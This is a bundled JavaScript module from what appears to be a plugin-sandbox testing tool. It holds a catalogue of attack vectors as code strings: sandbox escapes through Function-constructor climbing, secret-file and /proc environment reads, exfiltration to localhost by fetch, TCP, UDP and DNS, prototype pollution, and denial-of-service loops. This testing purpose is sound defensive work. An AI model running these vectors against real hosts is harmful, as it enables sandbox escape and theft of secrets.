export const id = 1713;
export const ids = [1713];
export const modules = {

/***/ 81713:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

// ESM COMPAT FLAG
__webpack_require__.r(__webpack_exports__);

// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  plugins: () => (/* binding */ plugins)
});

// EXTERNAL MODULE: ./build/js/shared/families/port.js
var port = __webpack_require__(86964);
// EXTERNAL MODULE: ./build/js/shared/config/facts-shape.js
var facts_shape = __webpack_require__(29930);
;// CONCATENATED MODULE: ./build/js/anomaly-scan/plugins/facts.js
const PLUGIN_VERDICTS = [
    'escape',
    'denial-of-service',
    'capability',
    'contained',
    'unreachable',
    'not-live',
    'error',
];

// EXTERNAL MODULE: ./build/js/shared/config/config-problem.js
var config_problem = __webpack_require__(31677);
// EXTERNAL MODULE: ./build/js/shared/config/narrow.js
var narrow = __webpack_require__(7534);
// EXTERNAL MODULE: ./build/js/anomaly-scan/plugins/vectors/index.js + 5 modules
var plugins_vectors = __webpack_require__(26137);
;// CONCATENATED MODULE: ./build/js/anomaly-scan/plugins/settings.js



const FAILURES = ['escape', 'denial-of-service', 'capability'];
function configure(values) {
    const failOn = values.has('plugin-fail-on') ? (0,narrow/* listOf */.c3)(values, 'plugin-fail-on') : ['escape', 'denial-of-service'];
    const vectors = (0,narrow/* listOf */.c3)(values, 'plugin-vectors');
    return {
        adapter: (0,narrow/* textOf */.b6)(values, 'plugins'),
        failOn: failOn.map((one) => known('plugin-fail-on', one, FAILURES)),
        vectors: vectors.map((one) => known('plugin-vectors', one, plugins_vectors/* VECTORS */.J.map(({ id }) => id))),
        minLive: values.has('min-live-plugin-vectors') ? (0,narrow/* integerOf */.cP)(values, 'min-live-plugin-vectors') : 50,
    };
}
function known(option, word, words) {
    const found = words.find((one) => one === word);
    if (found !== undefined)
        return found;
    throw (0,config_problem/* configProblem */.er)('CONFIG-VALUE', `${option} has ${JSON.stringify(word)}, which is none`, `Known are ${words.join(', ')}.`);
}

// EXTERNAL MODULE: ./build/js/anomaly-scan/plugins/vector-verdict.js
var vector_verdict = __webpack_require__(83406);
;// CONCATENATED MODULE: ./build/js/anomaly-scan/plugins/check-plugins.js




const SHAPE = facts_shape/* FACTS_SHAPE */.w;
const FACTS = 'facts.families.plugins';
const OPTIONS = 'options.families.plugins';
function checkPlugins(options, facts) {
    const settings = SHAPE.object(options, OPTIONS);
    SHAPE.text(settings['adapter'], `${OPTIONS}.adapter`);
    for (const one of SHAPE.texts(settings['failOn'], `${OPTIONS}.failOn`))
        SHAPE.word(one, FAILURES, `${OPTIONS}.failOn`);
    const named = SHAPE.texts(settings['vectors'], `${OPTIONS}.vectors`);
    const minLive = SHAPE.count(settings['minLive'], `${OPTIONS}.minLive`);
    const own = SHAPE.object(facts, FACTS);
    const adapter = SHAPE.object(own['adapter'], `${FACTS}.adapter`);
    SHAPE.text(adapter['path'], `${FACTS}.adapter.path`);
    SHAPE.count(adapter['line'], `${FACTS}.adapter.line`);
    SHAPE.text(own['node'], `${FACTS}.node`);
    SHAPE.flag(own['audit'], `${FACTS}.audit`);
    const grants = SHAPE.object(own['grants'], `${FACTS}.grants`);
    for (const name of ['fsRead', 'fsWrite', 'net', 'env', 'allowed'])
        SHAPE.texts(grants[name], `${FACTS}.grants.${name}`);
    const problems = SHAPE.list(own['problems'], `${FACTS}.problems`);
    for (const one of problems)
        SHAPE.problem(one, `${FACTS}.problems`);
    const catalogued = SHAPE.count(own['catalogued'], `${FACTS}.catalogued`);
    SHAPE.count(own['milliseconds'], `${FACTS}.milliseconds`);
    const verdicts = SHAPE.list(own['vectors'], `${FACTS}.vectors`).map((one) => checkVector(one));
    if (verdicts.length !== (named.length === 0 ? catalogued : new Set(named).size))
        SHAPE.invalid(`${FACTS}.vectors`);
    const live = verdicts.filter((verdict) => verdict !== 'not-live').length;
    const isShort = named.length === 0 && live < minLive;
    if ((isShort || verdicts.includes('error')) && problems.length === 0)
        SHAPE.invalid(`${FACTS}.problems`);
}
function checkVector(value) {
    const path = `${FACTS}.vectors`;
    const vector = SHAPE.object(value, path);
    for (const name of ['id', 'kind', 'idea'])
        SHAPE.text(vector[name], `${path}.${name}`);
    const verdict = SHAPE.word(vector['verdict'], PLUGIN_VERDICTS, `${path}.verdict`);
    const evidence = SHAPE.texts(vector['evidence'], `${path}.evidence`);
    for (const name of ['granted', 'control'])
        SHAPE.texts(vector[name], `${path}.${name}`);
    const gravest = (0,vector_verdict/* gravestOf */.am)(evidence);
    const isProven = ['escape', 'denial-of-service', 'capability'].includes(verdict);
    if (gravest === undefined ? isProven : gravest !== verdict)
        SHAPE.invalid(`${path}.verdict`);
    if (vector['note'] !== undefined)
        SHAPE.text(vector['note'], `${path}.note`);
    if (vector['refused'] !== undefined)
        SHAPE.flag(vector['refused'], `${path}.refused`);
    SHAPE.count(vector['milliseconds'], `${path}.milliseconds`);
    return verdict;
}

// EXTERNAL MODULE: ./build/js/shared/policy/fingerprint.js
var fingerprint = __webpack_require__(67673);
;// CONCATENATED MODULE: ./build/js/anomaly-scan/plugins/rule-ids.js
const RULES = {
    escape: 'plugins/sandbox-escape',
    'denial-of-service': 'plugins/denial-of-service',
    capability: 'plugins/extra-capability',
};

;// CONCATENATED MODULE: ./build/js/anomaly-scan/plugins/decide-plugins.js


const PROVEN = ['escape', 'denial-of-service', 'capability'];
function decidePlugins(options, facts) {
    const { vectors, problems } = facts;
    const of = (verdict) => vectors.filter((one) => one.verdict === verdict);
    const live = vectors.length - of('not-live').length;
    const tried = live - of('unreachable').length - of('error').length;
    const held = of('contained').length;
    return {
        problems,
        findings: PROVEN.flatMap((verdict) => of(verdict).map((one) => finding(one, options, facts))),
        metrics: {
            plugins: {
                catalogued: facts.catalogued,
                live,
                contained: held,
                escapes: of('escape').length,
                denialsOfService: of('denial-of-service').length,
                capabilities: of('capability').length,
                unreachable: of('unreachable').length,
                errors: of('error').length,
            },
        },
        holds: `${held} of ${tried} plugins that attack were held${options.vectors.length === 0 ? '' : ` (only ${options.vectors.join(', ')} of ${facts.catalogued})`}`,
    };
}
function finding(fact, { adapter, failOn }, facts) {
    const verdict = fact.verdict;
    const rule = RULES[verdict];
    const what = {
        escape: 'got out',
        'denial-of-service': 'stopped the host',
        capability: 'may do more than is granted',
    };
    return {
        rule,
        severity: failOn.includes(verdict) ? 'error' : 'warning',
        message: `plugin ${fact.id} ${what[verdict]} (${fact.kind}: ${fact.idea}); proven: ${fact.evidence.join(', ')}`,
        hint: `Try it again with: npx reliability anomaly-scan --plugins ${adapter} --plugin-vectors ${fact.id}`,
        location: { path: facts.adapter.path, startLine: facts.adapter.line },
        fingerprint: (0,fingerprint/* fingerprint */.R)(rule, facts.adapter.path, fact.id),
    };
}

;// CONCATENATED MODULE: ./build/js/anomaly-scan/plugins/present-plugins.js

const WORDS = {
    escape: 'escaped',
    'denial-of-service': 'stopped the host',
    capability: 'may',
    contained: 'held',
    unreachable: 'nothing to attack',
    'not-live': 'not live',
    error: 'not tried',
};
const TONES = {
    escape: 'bad',
    'denial-of-service': 'bad',
    capability: 'warn',
    contained: 'good',
    unreachable: 'muted',
    'not-live': 'muted',
    error: 'warn',
};
function presentPlugins(options, { vectors, node, audit, grants, problems, milliseconds }, { findings }) {
    const count = (verdict) => vectors.filter((one) => one.verdict === verdict).length;
    const counted = (verdict, tone) => {
        const found = count(verdict);
        return found === 0 ? '0' : { text: String(found), tone };
    };
    const live = vectors.length - count('not-live');
    const sums = {
        title: 'Plugins that attack their host',
        columns: ['Live', 'Held', 'Escaped', 'Stopped the host', 'Capabilities', 'Nothing to attack'].map((label) => ({
            label,
            align: 'right',
        })),
        rows: [
            [
                String(live),
                counted('contained', 'good'),
                counted('escape', 'bad'),
                counted('denial-of-service', 'bad'),
                counted('capability', 'warn'),
                String(count('unreachable')),
            ],
        ],
    };
    const each = {
        title: 'Vectors in the plugin host',
        columns: ['Vector', 'What it tries', 'Came out', 'Proven in the host', 'Without any defence'].map((label) => ({
            label,
            align: 'left',
        })),
        rows: vectors.map(rowOf),
        detail: true,
    };
    const check = (name, verdict) => {
        const own = findings.filter(({ rule, severity }) => rule === RULES[verdict] && severity === 'error');
        if (own.length > 0)
            return { name, outcome: 'failed', findings: own.map((one) => one.fingerprint) };
        return { name, outcome: problems.length > 0 ? 'inconclusive' : 'passed' };
    };
    const granted = [
        ...['fsRead', 'fsWrite', 'net', 'env'].flatMap((name) => grants[name].length === 0 ? [] : [`${name} ${grants[name].join(', ')}`]),
        ...grants.allowed,
    ];
    return {
        tables: [sums, each],
        notes: [
            `Plugins were tried in ${vectors.length} processes of Node.js ${node} and as many without any defence${audit ? ', with its own audit of permissions as a second witness' : ''}, in ${(milliseconds / 1000).toFixed(1)} s.`,
            granted.length === 0
                ? 'The adapter grants plugins nothing.'
                : `The adapter grants plugins: ${granted.join('; ')}.`,
        ],
        checks: options.failOn.map((verdict) => check(`plugins: ${verdict}`, verdict)),
    };
}
function rowOf({ id, kind, idea, verdict, evidence, granted, control, refused }) {
    const proven = [...evidence, ...granted.map((one) => `${one} (granted)`)].join(', ');
    return [
        { text: id, code: true },
        `${kind}: ${idea}`,
        { text: refused === true && verdict === 'contained' ? 'refused' : WORDS[verdict], tone: TONES[verdict] },
        proven === '' ? '–' : proven,
        control.length === 0 ? '–' : control.join(', '),
    ];
}

;// CONCATENATED MODULE: ./build/js/anomaly-scan/plugins/family.js





const plugins = (0,port/* defineFamily */.u)({
    id: 'plugins',
    configure: configure,
    collect: async (context, options) => (await __webpack_require__.e(/* import() */ 4531).then(__webpack_require__.bind(__webpack_require__, 94531))).collectPlugins(context, options),
    decide: decidePlugins,
    check: checkPlugins,
    present: presentPlugins,
    keep: () => undefined,
});


/***/ }),

/***/ 11858:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Rr: () => (/* binding */ grantsOf),
/* harmony export */   kR: () => (/* binding */ isGranted)
/* harmony export */ });
/* unused harmony export NO_GRANTS */
const LISTS = ['fsRead', 'fsWrite', 'net', 'env'];
const NO_GRANTS = { fsRead: [], fsWrite: [], net: [], env: [], allowed: [] };
function grantsOf(value) {
    if (typeof value !== 'object' || value === null || Array.isArray(value))
        return undefined;
    const grants = {};
    const allowed = [];
    for (const [name, one] of Object.entries(value)) {
        if (LISTS.some((list) => list === name)) {
            if (!Array.isArray(one) || !one.every((item) => typeof item === 'string'))
                return undefined;
            grants[name] = one;
        }
        else if (one === true)
            allowed.push(name);
        else if (one !== false)
            return undefined;
    }
    return { ...NO_GRANTS, ...grants, allowed: allowed.sort() };
}
function isGranted(grants, evidence, places) {
    const { fsRead, fsWrite, net, env, allowed } = grants;
    if (allowed.includes(evidence) || (places.grant !== undefined && allowed.includes(places.grant)))
        return true;
    switch (evidence) {
        case 'file':
            return covers(fsRead, places.secret);
        case 'write':
            return covers(fsWrite, places.outside);
        case 'network':
        case 'listen':
            return net.some((host) => /^(?:\*|localhost|127\.0\.0\.1)(?::\*)?$/u.test(host));
        case 'env':
            return env.includes('*');
        default:
            return false;
    }
}
function covers(granted, path) {
    return granted.some((one) => one === '*' || one === path || path.startsWith(one.endsWith('/') ? one : `${one}/`));
}


/***/ }),

/***/ 83406:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   KR: () => (/* binding */ STOPS),
/* harmony export */   O_: () => (/* binding */ isOnlyStopped),
/* harmony export */   am: () => (/* binding */ gravestOf),
/* harmony export */   uM: () => (/* binding */ vectorFact)
/* harmony export */ });
/* harmony import */ var _grants_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(11858);

const STOPS = ['hang', 'crash', 'exit'];
const DENIALS = [...STOPS, 'afterlife'];
const CAPABILITIES = [
    'eval',
    'wasm',
    'addon',
    'trace',
    'wasi',
    'signal',
    'listen',
    'stdio',
    'maps',
];
function gravestOf(evidence) {
    if (evidence.length === 0)
        return undefined;
    if (evidence.some((one) => !DENIALS.includes(one) && !CAPABILITIES.includes(one)))
        return 'escape';
    return evidence.some((one) => DENIALS.includes(one)) ? 'denial-of-service' : 'capability';
}
function isOnlyStopped({ isDenial }, evidence) {
    return isDenial !== true && evidence.length > 0 && evidence.every((one) => STOPS.includes(one));
}
function vectorFact(vector, control, host, grants, places) {
    const { id, kind, idea, grant } = vector;
    const isOpen = (one) => (0,_grants_js__WEBPACK_IMPORTED_MODULE_0__/* .isGranted */ .kR)(grants, one, { ...places, ...(grant === undefined ? {} : { grant }) });
    const isRefused = host?.refused === 'load' || (host?.refused === 'run' && vector.refusable === true);
    const proven = host?.evidence ?? [];
    const evidence = proven.filter((one) => !isOpen(one));
    return {
        id,
        kind,
        idea,
        verdict: verdictOf(host, isRefused, evidence),
        evidence,
        granted: proven.filter(isOpen),
        control,
        ...(isRefused ? { refused: true } : {}),
        ...(host?.note === undefined ? {} : { note: host.note }),
        milliseconds: Math.round(host?.milliseconds ?? 0),
    };
}
function verdictOf(host, isRefused, evidence) {
    if (host === undefined)
        return 'not-live';
    const gravest = gravestOf(evidence);
    if (gravest !== undefined)
        return gravest;
    if (host.failed !== undefined)
        return 'error';
    if (host.lacks !== undefined)
        return 'unreachable';
    return host.began || isRefused ? 'contained' : 'error';
}


/***/ }),

/***/ 26137:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  W: () => (/* binding */ LIVENESS),
  J: () => (/* binding */ VECTORS)
});

;// CONCATENATED MODULE: ./build/js/anomaly-scan/plugins/vectors/access.js
const ACCESS_VECTORS = [
    {
        id: 'P14',
        kind: 'import',
        idea: 'import a module of Node.js',
        refusable: true,
        body: "const fs = await import('node:fs'); emit('leak', fs.readFileSync(P.secret, 'utf8'));",
    },
    {
        id: 'P15',
        kind: 'direct globals',
        idea: 'use process and require as they are',
        body: `try { emit('leak', process.env[P.env]); } catch {}
const load = typeof require === 'function' ? require : process.getBuiltinModule;
emit('leak', load('fs').readFileSync(P.secret, 'utf8'));`,
    },
    {
        id: 'P16',
        kind: 'internal binding',
        idea: 'load a module by Module._load',
        body: "emit('leak', process.getBuiltinModule('module')._load('fs').readFileSync(P.secret, 'utf8'));",
    },
    {
        id: 'P17',
        kind: 'write',
        idea: 'write a file outside',
        body: "builtin('fs').writeFileSync(P.outside + '/written', 'x');",
    },
    {
        id: 'P18',
        kind: 'process',
        idea: 'start a process that writes',
        grant: 'spawn',
        body: "builtin('child_process').spawnSync(host().process.execPath, ['-e', writing(P.outside + '/written')]);",
    },
    {
        id: 'P19',
        kind: 'worker',
        idea: 'start a worker that writes',
        grant: 'worker',
        body: "const { Worker } = builtin('worker_threads'); await heard(new Worker(writing(P.outside + '/written'), { eval: true }), 'exit');",
    },
    {
        id: 'P20',
        kind: 'fetch',
        idea: 'send something by fetch',
        body: "await (typeof fetch === 'function' ? fetch : host().fetch)('http://127.0.0.1:' + P.tcpPort + '/' + P.token);",
    },
    {
        id: 'P21',
        kind: 'TCP',
        idea: 'send something over TCP',
        body: "const socket = builtin('net').connect(P.tcpPort, '127.0.0.1'); socket.resume(); socket.end(P.token); await heard(socket, 'close');",
    },
    {
        id: 'P22',
        kind: 'UDP',
        idea: 'send a datagram',
        body: "const socket = builtin('dgram').createSocket('udp4'); await new Promise((resolve) => socket.send(P.token, P.udpPort, '127.0.0.1', resolve)); socket.close();",
    },
    {
        id: 'P23',
        kind: 'inspector',
        idea: 'open the debugger',
        body: "const inspector = builtin('inspector'); inspector.open(0, '127.0.0.1'); if (inspector.url()) prove('inspector');",
    },
    {
        id: 'P37',
        kind: 'link in the plugin',
        idea: 'read through a link that lies in the own folder',
        body: "emit('leak', builtin('fs').readFileSync(P.link, 'utf8'));",
    },
    {
        id: 'P38',
        kind: 'environment by /proc',
        idea: 'read the environment of processes from /proc',
        body: `const node = host().process;
for (const pid of ['self', node.ppid]) try { emit('leak', builtin('fs').readFileSync('/proc/' + pid + '/environ', 'latin1').split(P.env + '=')[1].slice(0, 40)); } catch {}`,
    },
    {
        id: 'P40',
        kind: 'SQLite',
        idea: 'write a file as a database',
        body: "const { DatabaseSync } = builtin('node:sqlite'); const database = new DatabaseSync(P.outside + '/written'); database.exec('create table t (a)'); database.close();",
    },
    {
        id: 'P43',
        kind: 'report file',
        idea: 'write a diagnostic report',
        body: "const { report } = host().process; report.directory = P.outside; report.writeReport('written');",
    },
    {
        id: 'P44',
        kind: 'heap snapshot',
        idea: 'write a snapshot of the heap, with all secrets in it',
        isSlow: true,
        body: "builtin('v8').writeHeapSnapshot(P.outside + '/written');",
    },
    {
        id: 'P46',
        kind: 'loadEnvFile',
        idea: 'read a file as environment',
        body: "const node = host().process; node.loadEnvFile(P.secret); emit('leak', node.env.CANARY);",
    },
    {
        id: 'P47',
        kind: 'openAsBlob',
        idea: 'read a file as a Blob',
        body: "emit('leak', await (await builtin('fs').openAsBlob(P.secret)).text());",
    },
    {
        id: 'P48',
        kind: 'error of require',
        idea: 'the error of a module that is none tells what is in it',
        body: "try { builtin('module').createRequire(P.secret)(P.secret); } catch (error) { emit('leak', error.message + error.stack); }",
    },
    {
        id: 'P49',
        kind: 'compile cache',
        idea: 'let Node.js write its compile cache outside',
        body: "const cache = builtin('module'); cache.enableCompileCache(P.outside + '/written'); cache.flushCompileCache?.();",
    },
    {
        id: 'P51',
        kind: 'execve',
        idea: 'become another program',
        grant: 'spawn',
        isDenial: true,
        body: "const node = host().process; node.execve(node.execPath, ['node', '-e', writing(P.outside + '/written')], {});",
    },
    {
        id: 'P53',
        kind: 'DNS',
        idea: 'send something as a question to a name server',
        body: `const resolver = new (builtin('dns').promises.Resolver)({ timeout: 200, tries: 1 });
resolver.setServers(['127.0.0.1:' + P.udpPort]);
try { await resolver.resolve4(P.token + '.example'); } catch {}`,
    },
    {
        id: 'P57',
        kind: 'link outside',
        idea: 'make a link to a file outside',
        body: "builtin('fs').symlinkSync(P.secret, P.outside + '/written');",
    },
    {
        id: 'P58',
        kind: 'test runner',
        idea: 'let the test runner start a process',
        grant: 'spawn',
        body: "for await (const event of builtin('node:test').run({ files: [P.planted] })) if (event.type === 'test:summary') break;",
    },
    {
        id: 'P61',
        kind: 'environment by worker',
        idea: 'a worker has the environment of the host',
        grant: 'worker',
        body: "const { Worker } = builtin('worker_threads'); const worker = new Worker('require(\"worker_threads\").parentPort.postMessage(process.env[' + JSON.stringify(P.env) + '])', { eval: true }); emit('leak', await heard(worker, 'message'));",
    },
    {
        id: 'P62',
        kind: 'environment by report',
        idea: 'the diagnostic report has the environment',
        body: "const { report } = host().process; report.excludeNetwork = true; emit('leak', report.getReport().environmentVariables[P.env]);",
    },
    {
        id: 'P63',
        kind: 'exit handler',
        idea: 'write when the host ends',
        body: "const fs = builtin('fs'); host().process.on('exit', () => fs.writeFileSync(P.outside + '/written', 'x'));",
    },
];

;// CONCATENATED MODULE: ./build/js/anomaly-scan/plugins/vectors/capability.js
const CAPABILITY_VECTORS = [
    {
        id: 'P29',
        kind: 'code from text',
        idea: 'make a function of a text',
        body: `for (const way of [() => (() => {}).constructor('return 7')(), () => Function('return 7')(), () => globalThis['eval']('7')])
  try { if (way() === 7) prove('eval'); } catch {}`,
    },
    {
        id: 'P30',
        kind: 'WebAssembly',
        idea: 'compile a module',
        body: "new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); prove('wasm');",
    },
    {
        id: 'P39',
        kind: 'native code',
        idea: 'load an addon',
        body: "try { host().process.dlopen({ exports: {} }, P.outside + '/none.node'); } catch (error) { if (error.code === 'ERR_DLOPEN_FAILED') prove('addon'); }",
    },
    {
        id: 'P45',
        kind: 'trace events',
        idea: 'switch tracing on, which writes a file',
        body: "builtin('trace_events').createTracing({ categories: ['node.bootstrap'] }).enable(); prove('trace');",
    },
    {
        id: 'P50',
        kind: 'WASI',
        idea: 'open the root folder for a WebAssembly module',
        body: "new (builtin('wasi').WASI)({ version: 'preview1', preopens: { '/': '/' } }); prove('wasi');",
    },
    {
        id: 'P52',
        kind: 'signal',
        idea: 'send a signal to the parent',
        body: "const node = host().process; if (node.kill(node.ppid, 0)) prove('signal');",
    },
    {
        id: 'P54',
        kind: 'local socket',
        idea: 'listen on a socket in the file system',
        body: "const server = builtin('net').createServer(); server.listen(P.outside + '/socket'); await heard(server, 'listening'); if (server.listening) prove('listen'); server.close();",
    },
    {
        id: 'P55',
        kind: 'standard output',
        idea: "write to the host's standard output",
        body: "builtin('fs').writeSync(1, [...P.token].reverse().join(''));",
    },
    {
        id: 'P56',
        kind: 'memory map',
        idea: 'read where everything lies in memory',
        body: "if (builtin('fs').readFileSync('/proc/self/maps', 'latin1').includes('-')) prove('maps');",
    },
    {
        id: 'P73',
        kind: 'open port',
        idea: 'listen on a port',
        body: "const server = builtin('net').createServer(); server.listen(0, '127.0.0.1'); await heard(server, 'listening'); if (server.listening) prove('listen'); server.close();",
    },
];

;// CONCATENATED MODULE: ./build/js/anomaly-scan/plugins/vectors/denial.js
const DENIAL_VECTORS = [
    {
        id: 'P24',
        kind: 'exit',
        idea: 'end the process of the host',
        isDenial: true,
        body: 'host().process.exit(13);',
    },
    { id: 'P31', kind: 'endless loop', idea: 'never come back', isDenial: true, isEndless: true, body: 'for (;;) {}' },
    {
        id: 'P32',
        kind: 'microtask flood',
        idea: 'come back, but never let the host go on',
        isDenial: true,
        isEndless: true,
        body: 'const again = () => { Promise.resolve().then(again); }; again();',
    },
    {
        id: 'P33',
        kind: 'endless conversion',
        idea: 'loop when the host logs, stores or shows the result',
        isDenial: true,
        isEndless: true,
        body: 'const loop = () => { for (;;) {} }; return { toString: loop, valueOf: loop, toJSON: loop };',
    },
    {
        id: 'P34',
        kind: 'memory',
        idea: 'take all memory',
        isDenial: true,
        body: 'const all = []; for (;;) all.push(new Array(100000).fill(1.5));',
    },
    {
        id: 'P35',
        kind: 'slow pattern',
        idea: 'a regular expression that takes for ever',
        isDenial: true,
        isEndless: true,
        body: "/^(a+)+$/.test('a'.repeat(50) + '!');",
    },
    {
        id: 'P36',
        kind: 'afterlife',
        idea: 'a timer that goes on after the plugin was unloaded',
        body: "(typeof setInterval === 'function' ? setInterval : host().setInterval)(() => api.emit('tick'), 10);",
    },
    {
        id: 'P70',
        kind: 'unhandled rejection',
        idea: 'a rejection that nobody handles',
        isDenial: true,
        body: "Promise.reject(new Error('not handled'));",
    },
    {
        id: 'P71',
        kind: 'uncaught exception',
        idea: 'an exception in a timer',
        isDenial: true,
        body: "(typeof setTimeout === 'function' ? setTimeout : host().setTimeout)(() => { throw new Error('not caught'); }, 0); await null;",
    },
    {
        id: 'P72',
        kind: 'blocked thread',
        idea: 'wait for ever, without work',
        isDenial: true,
        isEndless: true,
        body: 'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);',
    },
];

;// CONCATENATED MODULE: ./build/js/anomaly-scan/plugins/vectors/reach.js
const REACH_VECTORS = [
    {
        id: 'P01',
        kind: 'constructor chain',
        idea: 'climb from the global object to Function',
        body: 'try { climb(globalThis); } catch {} climb((function () { return this; })());',
    },
    { id: 'P02', kind: 'host function', idea: 'climb from a function of the host', body: 'climb(api.emit);' },
    {
        id: 'P03',
        kind: 'host object',
        idea: 'climb from an object of the host',
        needs: 'object',
        body: 'climb(api.object);',
    },
    {
        id: 'P04',
        kind: 'host error',
        idea: 'climb from an error that the host throws',
        body: 'let caught; for (const odd of [Object.create(null), Symbol()]) try { api.emit(odd); } catch (error) { caught ??= error; } climb(caught);',
    },
    {
        id: 'P05',
        kind: 'stack overflow',
        idea: 'exhaust the stack inside of the host, climb from its RangeError',
        body: `let caught;
const dive = () => { try { dive(); } catch { try { api.emit('deep'); } catch (error) { caught ??= error; } } };
dive();
climb(caught);`,
    },
    {
        id: 'P06',
        kind: 'call sites',
        idea: 'Error.prepareStackTrace hands over functions and receivers of the stack',
        body: `Error.prepareStackTrace = (error, sites) => sites;
const sites = new Error().stack;
delete Error.prepareStackTrace;
for (const site of sites)
  for (const thing of [site, site.getThis(), site.getFunction()]) try { climb(thing); } catch {}`,
    },
    {
        id: 'P07',
        kind: 'caller chain',
        idea: 'the caller of a callback is a function of the host',
        needs: 'call',
        body: 'let found; api.call(function probe() { found = probe.caller; }); climb(found);',
    },
    {
        id: 'P08',
        kind: 'host promise',
        idea: 'climb from a promise of the host',
        needs: 'promise',
        body: 'climb(api.promise());',
    },
    {
        id: 'P09',
        kind: 'proxy trap',
        idea: 'the list of arguments that a trap is handed, where the host calls it',
        needs: 'call',
        body: `let found;
api.call(new Proxy(function () {}, { apply(target, self, list) { found = list; } }));
try { climb(found); } catch {}
for (const one of found) climb(one);`,
    },
    {
        id: 'P10',
        kind: 'callback argument',
        idea: 'climb from what the host hands to a callback',
        needs: 'call',
        body: 'let found; api.call((...list) => { found = list; }); for (const one of found) climb(one);',
    },
    {
        id: 'P11',
        kind: 'thenable',
        idea: 'return a thenable: whoever awaits it hands over its functions',
        body: 'return { then(resolve) { try { climb(resolve); } finally { resolve(1); } } };',
    },
    {
        id: 'P12',
        kind: 'inspect hook',
        idea: 'a custom inspection, run when the host logs the result',
        body: "return { [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { for (const one of [inspect, options]) try { climb(one); } catch {} return 1; } };",
    },
    {
        id: 'P13',
        kind: 'conversion hook',
        idea: 'call sites from toJSON and toString, run when the host stores or shows the result',
        body: `const spy = () => {
  Error.prepareStackTrace = (error, sites) => sites;
  const sites = new Error().stack;
  delete Error.prepareStackTrace;
  for (const site of sites) for (const thing of [site.getThis(), site.getFunction()]) try { climb(thing); } catch {}
  return 'x';
};
return { toJSON: spy, toString: spy };`,
    },
    {
        id: 'P41',
        kind: 'rejected import',
        idea: 'climb from the error, and the promise, of an import that fails',
        refusable: true,
        body: "let promise; try { promise = import('nothing:at-all'); await promise; } catch (error) { for (const one of [error, promise]) try { climb(one); } catch {} }",
    },
    {
        id: 'P42',
        kind: 'async constructor',
        idea: 'the constructors of async functions and generators make functions',
        body: `for (const made of [async () => {}, function* () {}, async function* () {}]) {
  try {
    const run = made.constructor('return globalThis');
    const first = run();
    loot(first.next ? (await first.next()).value : await first);
  } catch {}
}`,
    },
    {
        id: 'P59',
        kind: 'patched promise',
        idea: 'patch the own Promise: the await of the host hands over its functions',
        body: `const { then } = Promise.prototype;
Object.defineProperty(Promise.prototype, 'constructor', { value: function Other() {}, configurable: true });
Promise.prototype.then = function (resolve, reject) { try { climb(resolve); } catch {} return then.call(this, resolve, reject); };`,
    },
    {
        id: 'P60',
        kind: 'getter on result',
        idea: 'call sites from a getter that the host reads',
        body: `return { get then() {
  Error.prepareStackTrace = (error, sites) => sites;
  const sites = new Error().stack;
  delete Error.prepareStackTrace;
  for (const site of sites) for (const thing of [site.getThis(), site.getFunction()]) try { climb(thing); } catch {}
  return undefined;
} };`,
    },
];

;// CONCATENATED MODULE: ./build/js/anomaly-scan/plugins/vectors/tamper.js
const TAMPER_VECTORS = [
    {
        id: 'P25',
        kind: 'pollution by __proto__',
        idea: "put a property on the host's Object.prototype",
        needs: 'object',
        body: "api.object['__proto__'][P.mark] = 1;",
    },
    {
        id: 'P26',
        kind: 'pollution by constructor',
        idea: 'the same by constructor.prototype',
        needs: 'object',
        body: 'api.object.constructor.prototype[P.mark] = 1;',
    },
    {
        id: 'P27',
        kind: 'poisoned intrinsics',
        idea: "replace a method of the host's arrays",
        body: "const List = api.emit.constructor('return Array')(); List.prototype.flatMap = function () { return []; };",
    },
    {
        id: 'P28',
        kind: 'tampering with the API',
        idea: 'what one plugin puts on the API, the next one sees',
        needs: 'object',
        body: 'api.object[P.mark] = 1;',
        next: "if (api.object[P.mark] === 1) prove('tampering');",
    },
    {
        id: 'P64',
        kind: 'environment of children',
        idea: 'change NODE_OPTIONS of what the host starts later',
        body: "host().process.env.NODE_OPTIONS = '--require ' + P.planted;",
    },
    {
        id: 'P65',
        kind: 'module loader',
        idea: 'load what the host loads later',
        body: "const loader = builtin('module'); const before = loader._load; loader._load = function (...list) { return before.apply(this, list); };",
    },
    {
        id: 'P66',
        kind: 'working directory',
        idea: 'move the host to another folder',
        body: "host().process.chdir('/');",
    },
    {
        id: 'P67',
        kind: 'planted global',
        idea: 'plant a global in the realm of the host',
        body: "api.emit.constructor('return globalThis')()[P.mark] = 1;",
    },
    {
        id: 'P68',
        kind: 'stack hook',
        idea: 'read every stack of the host from now on',
        body: "api.emit.constructor('return Error')().prepareStackTrace = (error, sites) => String(error);",
    },
    {
        id: 'P69',
        kind: 'shared constants',
        idea: 'change a module of Node.js for everybody',
        body: "builtin('fs').existsSync = () => true;",
    },
];

;// CONCATENATED MODULE: ./build/js/anomaly-scan/plugins/vectors/index.js





const LIVENESS = {
    id: 'P00',
    kind: 'liveness',
    idea: 'tell that it runs',
    body: "prove('alive'); return 'ok';",
};
const VECTORS = [
    ...REACH_VECTORS,
    ...ACCESS_VECTORS,
    ...TAMPER_VECTORS,
    ...DENIAL_VECTORS,
    ...CAPABILITY_VECTORS,
].sort((a, b) => (a.id < b.id ? -1 : 1));


/***/ }),

/***/ 29930:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   w: () => (/* binding */ FACTS_SHAPE),
/* harmony export */   y: () => (/* binding */ Shape)
/* harmony export */ });
/* harmony import */ var _model_problem_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(63627);

class Shape {
    #refuse;
    constructor(refuse) {
        this.#refuse = refuse;
    }
    invalid(path) {
        throw this.#refuse(path);
    }
